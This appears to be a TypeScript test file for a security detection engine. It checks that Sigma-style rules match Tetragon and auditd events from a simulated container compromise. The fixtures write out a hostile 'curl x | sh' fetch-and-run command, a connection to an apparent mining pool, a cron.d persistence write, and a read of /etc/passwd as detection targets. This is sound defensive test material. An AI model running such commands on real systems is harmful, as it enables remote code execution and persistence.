import { describe, expect, it } from 'vitest';
import { caseOf } from '../../store/case-of.js';
import { type Actor, dnsLine, enterpriseLine, execLine, kprobeLine } from '../../tetragon-lines.js';
import { report, ruleOver } from './cases.js';

const WEB = { id: 'a'.repeat(64), name: 'web', pod: 'web-1', namespace: 'shop', startedAt: 10, workload: 'web' };
const SERVER: Actor = { pid: 100, at: 10, binary: '/usr/bin/node', arguments: 'server.js', container: WEB };
const SHELL: Actor = {
  pid: 101,
  at: 400,
  binary: '/bin/sh',
  arguments: '-c "curl x | sh"',
  parent: SERVER,
  container: WEB,
  inInitTree: true,
};
const CURL: Actor = {
  pid: 102,
  at: 401,
  binary: '/usr/bin/curl',
  arguments: 'http://pool.example',
  parent: SHELL,
  container: WEB,
  uid: 33,
};

const LINES = [
  execLine(SERVER),
  execLine(SHELL),
  execLine(CURL),
  dnsLine(CURL, 401.1, { name: 'pool.example', ips: ['203.0.113.9'] }),
  enterpriseLine('process_connect', CURL, { at: 401.2, local: '10.0.0.9:40001', remote: '203.0.113.9:80', cookie: '7' }),
  kprobeLine(SHELL, 'security_file_permission', 402, [{ file_arg: { path: '/etc/cron.d/job' } }, { int_arg: 2 }]),
  kprobeLine(SHELL, 'security_file_permission', 403, [{ file_arg: { path: '/etc/passwd' } }, { int_arg: 4 }]),
  kprobeLine(SHELL, '__x64_sys_mknod', 404, []),
];

const RULES: readonly (readonly [string, string, string])[] = [
  ['a started program by its command line, quotes off', 'category: process_creation', '{ CommandLine: "sh -c curl x | sh" }'],
  ['a started program by who runs it', 'category: process_creation', '{ User: "33", ParentImage|endswith: /sh, Namespace: shop }'],
  [
    'a connection by a name that a DNS answer gave its address',
    'category: network_connection',
    '{ DestinationHostname: pool.example, Initiated: "true" }',
  ],
  ['a DNS answer', 'category: dns_query', '{ QueryName|endswith: .example, QueryResults: 203.0.113.9 }'],
  ['a written file', 'category: file_event', '{ TargetFilename|startswith: /etc/cron.d/ }'],
  ['a file that may have been made, as auditd has it', 'service: auditd', '{ type: PATH, nametype: CREATE, name: /etc/cron.d/job }'],
  ['a read file, as auditd has it', 'service: auditd', '{ type: PATH, name: /etc/passwd }'],
  ['a hooked system call, as auditd has it', 'service: auditd', '{ type: SYSCALL, SYSCALL: mknod, comm: sh }'],
  ['words of auditd’s argv', 'service: auditd', '{ type: EXECVE, a0: sh, a1: "-c", a2: "curl x | sh" }'],
];

describe('a case that was imported', () => {
  it.each(RULES)('lets a rule see %s', async (_, source, selection) => {
    const { detection } = await caseOf(LINES);
    const { findings } = report(detection, ruleOver(source, selection));
    expect(findings.map((finding) => finding.count)).toEqual([1]);
    expect(findings[0]?.evidence.length).toBe(1);
  });

  it('does not take a file that was read for one that was written', async () => {
    const { detection } = await caseOf(LINES);
    expect(report(detection, ruleOver('category: file_event', '{ TargetFilename: /etc/passwd }')).findings).toEqual([]);
  });

  it('gives accesses of the kinds that are asked for alone', async () => {
    const { detection } = await caseOf(LINES);
    const paths = (...kinds: ('write' | 'rename' | 'read' | 'open')[]) =>
      Array.from(detection.allFileAccesses(new Set(kinds)), (access) => access.path);
    expect([paths('write', 'rename'), paths('read', 'open'), paths()]).toEqual([['/etc/cron.d/job'], ['/etc/passwd'], []]);
  });

  it('gives its streams in the order of time', async () => {
    const { detection } = await caseOf([...LINES].reverse());
    expect(Array.from(detection.allProcesses(), (process) => process.pid)).toEqual([100, 101, 102]);
    expect(Array.from(detection.allFileAccesses(), (access) => access.path)).toEqual(['/etc/cron.d/job', '/etc/passwd']);
    expect(Array.from(detection.allHookCalls(), (call) => call.functionName)).toEqual([
      'security_file_permission',
      'security_file_permission',
      'sys_mknod',
    ]);
    expect(Array.from(detection.allDnsMessages(), (message) => message.names)).toEqual([['pool.example']]);
  });
});

describe('a case of an audit log', () => {
  const audit = (type: string, text: string): string => `type=${type} msg=audit(1795192472.808:28): ${text}`;
  const LOG = [
    audit(
      'SYSCALL',
      'arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=353 pid=373 auid=4294967295 uid=33 gid=0 euid=33 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="curl" exe="/usr/bin/curl" key="susp_activity"',
    ),
    audit('EXECVE', 'argc=2 a0="curl" a1="http://x.example"'),
    audit('CWD', 'cwd="/srv"'),
    audit('PROCTITLE', 'proctitle="curl"'),
    audit('EOE', ''),
  ];

  it.each([
    ['the key of the audit rule', 'service: auditd', '{ key: susp_activity }'],
    ['the call and its program', 'service: auditd', '{ type: SYSCALL, SYSCALL: execve, exe: /usr/bin/curl, comm: curl, uid: "33" }'],
    ['argv', 'service: auditd', '{ type: EXECVE, a0: curl, a1: http://x.example }'],
    [
      'a started program',
      'category: process_creation',
      '{ Image|endswith: /curl, CommandLine: curl http://x.example, CurrentDirectory: /srv }',
    ],
  ])('lets a rule see %s', async (_, source, selection) => {
    const { detection } = await caseOf(LOG);
    expect(report(detection, ruleOver(source, selection)).findings).toHaveLength(1);
  });

  it('says of a key that no other source has it', async () => {
    const { detection } = await caseOf(LINES);
    const { rules } = report(detection, ruleOver('service: auditd', '{ key: story }'));
    expect(rules.lackingData.map(({ why }) => why)).toEqual(['the case has no field key']);
  });
});
